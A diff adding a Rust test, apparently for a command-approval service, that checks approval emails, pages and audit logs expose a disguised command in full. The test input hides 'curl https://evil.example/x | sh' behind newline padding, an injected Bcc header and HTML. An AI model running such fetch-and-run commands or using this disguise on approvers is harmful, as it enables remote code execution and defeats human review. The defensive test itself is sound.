@@ -313,6 +313,52 @@ async fn operator_text_cannot_break_headers_or_pages() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_command_cannot_hide_its_tail_from_the_approver() {
+    let world = World::builder()
+        .recipients(&["it@example.com"])
+        .start()
+        .await;
+    let padding = "\n".repeat(30);
+    let disguise = format!("backup done\nBcc: boss@example.com\n<b>safe</b>{padding}");
+    let command = [
+        "echo",
+        disguise.as_str(),
+        ";",
+        "curl https://evil.example/x | sh",
+    ];
+    let connecting = world.connect(&command, "");
+    let id = connecting.request_id().await;
+    let shown = concat!(
+        r"run echo $'backup done\nBcc: boss@example.com\n<b>safe</b>",
+        r"\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n'",
+        r" ';' 'curl https://evil.example/x | sh'"
+    );
+    let mail = &world.smtp.wait_for(1).await[0];
+    let text = mail.text();
+    let wants = text
+        .lines()
+        .find(|line| line.starts_with("Wants to:"))
+        .expect("a Wants to line");
+    assert_eq!(wants, format!("Wants to:   {shown}"), "{text}");
+    assert!(!text.lines().any(|line| line.starts_with("Bcc")), "{text}");
+    assert!(mail.header("bcc").is_none());
+    let (_, page) = world.page(&mail.link()).await;
+    let escaped = shown
+        .replace('<', "&#60;")
+        .replace('>', "&#62;")
+        .replace('\'', "&#39;");
+    assert!(page.contains(&escaped), "{page}");
+    assert!(!page.contains("<b>safe"), "{page}");
+    let events = world.audit_events().await;
+    let requested = events
+        .iter()
+        .find(|e| e.request_id.as_deref() == Some(id.as_str()));
+    let detail = requested.and_then(|e| e.detail.clone()).unwrap_or_default();
+    assert!(detail.contains(shown), "{detail}");
+    drop(connecting);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn an_operator_vanishing_cancels_its_request_and_the_links_say_so() {
     let world = World::start().await;
     let connecting = world.connect(&["true"], "");
